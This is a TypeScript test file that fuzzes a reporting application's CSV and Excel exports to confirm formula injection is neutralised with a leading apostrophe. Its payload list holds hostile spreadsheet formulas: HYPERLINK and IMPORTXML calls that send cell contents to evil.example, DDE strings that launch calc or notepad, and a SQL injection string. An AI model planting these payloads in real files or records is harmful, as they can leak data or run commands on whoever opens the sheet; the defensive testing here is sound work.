import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import fc from "fast-check";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { RowError } from "../../src/domain/worker-report.js";
import { buildApp } from "../../src/http/app.js";
import { neutraliseFormula } from "../../src/reports/formula-guard.js";
import { renderMonevXlsx } from "../../src/reports/monev-xlsx.js";
import { rowErrorsCsv, rowErrorsXlsx } from "../../src/reports/row-errors.js";
import { addUser } from "../../src/services/accounts.js";
import { monevReport } from "../../src/services/monev.js";
import { ensureOrganisation } from "../../src/services/organisations.js";
import { backends, freshDatabase, type TestDatabase } from "../support/databases.js";
import { actor, addContractorUser, createProject, joinRow, reportRows } from "../support/fixtures.js";

/**
 * Formula injection (OWASP CSV Injection, ASVS 5.0 1.2.10): no text cell of a file the product writes
 * may start with what a spreadsheet runs as a formula. Each check writes the real file, reads it back
 * with csv-parse or ExcelJS, and looks at every cell.
 */

/** What Excel, LibreOffice, Sheets (and, full-width, Numbers) take for the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/;
const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠"];
const PAYLOADS = [
  'HYPERLINK("http://evil.example/?x="&A1,"Klik di sini")',
  "cmd|' /C calc'!A0",
  "SUM(1+1)*cmd|' /C notepad'!A1",
  "1+1",
  "2-1",
  'IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
  "'; drop table person; --",
];

/** Text a user could have typed: formulas with every trigger, and ordinary or awkward CSV content. */
const userText = fc.oneof(
  fc.tuple(fc.constantFrom(...TRIGGERS), fc.constantFrom(...PAYLOADS)).map(([t, p]) => t + p),
  fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([t, s]) => t + s),
  fc.string(),
  fc.string({ unit: "grapheme" }),
  fc.constantFrom('a,"b"\r\nc', "'=already quoted", " =leading blank", "Jalan Ruas Kapuas–Sosok", "-", "@"),
);

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "pantau-exports-"));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Every text cell neutralised, and nothing else changed: the cell is the text or the text after `'`. */
function expectNeutralised(cell: string, original: string): void {
  expect(cell).not.toMatch(FORMULA_START);
  expect(cell).toBe(FORMULA_START.test(original) ? `'${original}` : original);
}

describe("neutraliseFormula", () => {
  it("prefixes exactly the text a spreadsheet would run, and keeps the rest as it was", () => {
    fc.assert(
      fc.property(userText, (text) => expectNeutralised(neutraliseFormula(text), text)),
      { numRuns: 1000 },
    );
  });
});

describe("the row-error CSV and workbook", () => {
  const rowError = fc.record({
    row: fc.integer({ min: 1, max: 1_000_000 }),
    field: userText,
    code: userText,
    message: fc.record({ id: userText, en: userText }),
  });

  it("reads back, through csv-parse, as the same errors with every formula neutralised", () => {
    fc.assert(
      fc.property(fc.array(rowError, { maxLength: 20 }), (errors: RowError[]) => {
        const path = join(dir, "kesalahan.csv");
        // Every field is a column here, named by a text as hostile as the rest.
        const columns = Object.fromEntries(errors.map((e) => [e.field, [`${e.code}${e.field}`]]));
        writeFileSync(path, rowErrorsCsv(errors, columns));
        const records = parse(readFileSync(path, "utf8"), { bom: true }) as string[][];
        expect(records[0]).toEqual(["row", "field", "kolom", "code", "pesan", "message"]);
        expect(records).toHaveLength(errors.length + 1);
        errors.forEach((e, i) => {
          const [row, field, column, code, id, en] = records[i + 1] as string[];
          expect(row).toBe(String(e.row));
          expectNeutralised(field as string, e.field);
          expectNeutralised(column as string, columns[e.field]?.[0] as string);
          expectNeutralised(code as string, e.code);
          expectNeutralised(id as string, e.message.id);
          expectNeutralised(en as string, e.message.en);
        });
      }),
      { numRuns: 300 },
    );
  });

  /** Users' text with now and then a control character first, which a workbook cannot hold. */
  const withControls = fc.oneof(
    userText,
    fc.tuple(fc.constantFrom("\u0001", "\u0000", "\u001b", "\u000b"), userText).map(([c, t]) => c + t),
  );
  const workbookRowError = fc.record({
    row: fc.integer({ min: 1, max: 1_000_000 }),
    field: withControls,
    code: withControls,
    message: fc.record({ id: withControls, en: withControls }),
  });

  it("reads back from its workbook as the same errors, the row a number, no cell a formula", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(workbookRowError, { minLength: 1, maxLength: 20 }),
        async (errors: RowError[]) => {
          const columns = Object.fromEntries(errors.map((e) => [e.field, [`${e.code}${e.field}`]]));
          const workbook = new ExcelJS.Workbook();
          await workbook.xlsx.load((await rowErrorsXlsx(errors, columns)) as unknown as ArrayBuffer);
          expect(formulaProblems(workbook)).toEqual([]);
          const sheet = workbook.getWorksheet("Kesalahan") as ExcelJS.Worksheet;
          const text = (v: ExcelJS.CellValue) => (v === null || v === undefined ? "" : String(v));
          expect((sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1)).toEqual([
            "row",
            "field",
            "kolom",
            "code",
            "pesan",
            "message",
          ]);
          expect(sheet.rowCount).toBe(errors.length + 1);
          // XML holds no C0 control but tab and line ends, and reads CR LF back as LF; the rest is kept,
          // behind an apostrophe where it would start a formula (formulaProblems above).
          const kept = (s: string) =>
            // biome-ignore lint/suspicious/noControlCharactersInRegex: the characters XML cannot hold
            s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, "").replace(/\r\n?/g, "\n");
          const expectKept = (cell: ExcelJS.CellValue, original: string) =>
            expect([kept(original), `'${kept(original)}`]).toContain(text(cell));
          errors.forEach((e, i) => {
            const [row, field, column, code, id, en] = (
              sheet.getRow(i + 2).values as ExcelJS.CellValue[]
            ).slice(1);
            expect(row).toBe(e.row);
            expectKept(field, e.field);
            expectKept(column, columns[e.field]?.[0] as string);
            expectKept(code, e.code);
            expectKept(id, e.message.id);
            expectKept(en, e.message.en);
          });
        },
      ),
      { numRuns: 100 },
    );
  });
});

/** Every cell of every sheet: no formula anywhere, and no text that starts like one. */
function formulaProblems(workbook: ExcelJS.Workbook): string[] {
  const problems: string[] = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        const where = `${sheet.name}!${cell.address}`;
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula)
          problems.push(`${where} is a formula: ${cell.formula}`);
        if (typeof cell.value === "string" && FORMULA_START.test(cell.value))
          problems.push(`${where} starts like a formula: ${JSON.stringify(cell.value)}`);
      });
    });
  });
  return problems;
}

function stringCells(workbook: ExcelJS.Workbook): string[] {
  const found: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.String) found.push(cell.value as string);
      }),
    ),
  );
  return found;
}

describe.each(backends)("the Monev workbook [%s]", (backend) => {
  let t: TestDatabase;
  let app: FastifyInstance;
  let cookie: string;
  let serial = 0;
  const PASSWORD = "exports-pass-123";
  beforeAll(async () => {
    t = await freshDatabase(backend);
    const branch = (
      await ensureOrganisation(
        t.db,
        {
          kind: "bpjs_branch",
          code: "BPJS-SGU",
          name: '=HYPERLINK("http://evil.example")',
          regencyCode: "61.03",
        },
        actor,
      )
    ).id;
    await addUser(
      t.db,
      {
        email: "bpjs@exports.test",
        name: "BPJS",
        role: "bpjs",
        organisationId: branch,
        regionCode: "61.03",
        password: PASSWORD,
      },
      actor,
    );
    app = await buildApp({ db: t.db, config: { logLevel: "silent" }, today: () => "2025-07-30" });
    const res = await app.inject({
      method: "POST",
      url: "/api/v1/auth/login",
      payload: { email: "bpjs@exports.test", password: PASSWORD },
    });
    cookie = String(res.headers["set-cookie"]).split(";")[0] as string;
  }, 60_000);
  afterAll(async () => {
    await app?.close();
    await t?.close();
  });

  /** A working, unregistered project with one worker, so that it shows in the lists and breakdowns. */
  async function hostileProject(names: { code: string; name: string; contractor: string; workUnit: string }) {
    serial += 1;
    const project = await createProject(t.db, {
      code: names.code,
      name: names.name,
      contractorNib: `NIB-${serial}`,
      contractorName: names.contractor,
      workUnitCode: names.workUnit,
    });
    const answer = await reportRows(t.db, project.id, [joinRow(serial, "2025-04-01")]);
    expect(answer.accepted).toBe(1);
  }

  const trimmed = (s: string) => s.trim().length > 0 && s.trim().length <= 60;
  // PostgreSQL text cannot hold NUL (the importer and route fuzzing cover that refusal): every other trigger.
  const stored = TRIGGERS.filter((c) => c !== "\0");
  const hostile = fc
    .tuple(
      fc.constantFrom(...stored),
      fc.constantFrom(...PAYLOADS),
      fc.string({ maxLength: 10 }).filter((s) => !s.includes("\0")),
    )
    .map(([t, p, s]) => (t + p + s).trim())
    // The schema trims names, so a leading tab or CR never reaches the database; what remains must
    // still start a formula.
    .filter((s) => trimmed(s) && FORMULA_START.test(s));

  it("neutralises hostile project, contractor and work-unit names in every sheet of the written file", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.record({ code: hostile, name: hostile, contractor: hostile, workUnit: hostile }),
        async (names) => {
          // Codes are unique per regency: keep each run's own.
          const codes = {
            ...names,
            code: `${names.code} #${serial + 1}`,
            workUnit: `${names.workUnit} #${serial + 1}`,
          };
          await hostileProject(codes);
          const report = await monevReport(
            t.db,
            { regionCode: "61.03", period: "2025-07" },
            actor,
            "2025-07-30",
          );
          const path = join(dir, "monev.xlsx");
          writeFileSync(path, await renderMonevXlsx(report));
          const workbook = new ExcelJS.Workbook();
          await workbook.xlsx.readFile(path);
          expect(formulaProblems(workbook)).toEqual([]);
          const cells = stringCells(workbook);
          // Not vacuous: each hostile name is in the file, as text behind the apostrophe.
          for (const text of Object.values(codes)) expect(cells).toContain(`'${text}`);
          expect(cells).toContain("Kabupaten Sanggau");
        },
      ),
      { numRuns: 6 },
    );
  });

  it("sends the same neutralised workbook over HTTP", async () => {
    await hostileProject({
      code: "@SUM(1+1)",
      name: '=HYPERLINK("http://evil.example","Jalan")',
      contractor: "+cmd|' /C calc'!A0",
      workUnit: "-2+3",
    });
    const res = await app.inject({
      method: "GET",
      url: "/api/v1/reports/monev?region=61.03&period=2025-07",
      headers: { cookie },
    });
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    expect(formulaProblems(workbook)).toEqual([]);
    const cells = stringCells(workbook);
    for (const text of [
      "'@SUM(1+1)",
      `'=HYPERLINK("http://evil.example","Jalan")`,
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      `'=HYPERLINK("http://evil.example")`, // the branch name on the summary sheet
    ])
      expect(cells).toContain(text);
  });

  it("neutralises whatever a stored batch answer holds in its errors.csv download", async () => {
    // Today's row messages never start with user text; the download must stay safe if one ever does.
    const project = await createProject(t.db, { code: "ERR-CSV", contractorNib: "9120000000009" });
    await addContractorUser(t.db, project, "penyedia@exports.test", PASSWORD);
    const batch = await reportRows(t.db, project.id, [{ event: "join", nik: "1", date: "2025-04-01" }]);
    expect(batch.rejected).toBe(1);
    const hostileErrors: RowError[] = [
      {
        row: 2,
        field: "=nik",
        code: "@CODE",
        message: { id: '=HYPERLINK("http://evil.example")', en: "-1+2" },
      },
      { row: 3, field: "\tname", code: "+X", message: { id: "\r=1", en: "biasa" } },
    ];
    await t.db
      .updateTable("report_batch")
      .set({ response: JSON.stringify({ ...batch, errors: hostileErrors }) as never })
      .where("id", "=", batch.batchId)
      .execute();
    const login = await app.inject({
      method: "POST",
      url: "/api/v1/auth/login",
      payload: { email: "penyedia@exports.test", password: PASSWORD },
    });
    const res = await app.inject({
      method: "GET",
      url: `/api/v1/projects/${project.id}/reports/${batch.batchId}/errors.csv`,
      headers: { cookie: String(login.headers["set-cookie"]).split(";")[0] as string },
    });
    expect(res.statusCode).toBe(200);
    const path = join(dir, "download.csv");
    writeFileSync(path, res.rawPayload);
    const records = parse(readFileSync(path, "utf8"), { bom: true }) as string[][];
    expect(records.slice(1)).toEqual([
      ["2", "'=nik", "", "'@CODE", `'=HYPERLINK("http://evil.example")`, "'-1+2"],
      ["3", "'\tname", "", "'+X", "'\r=1", "biasa"],
    ]);
  });
});
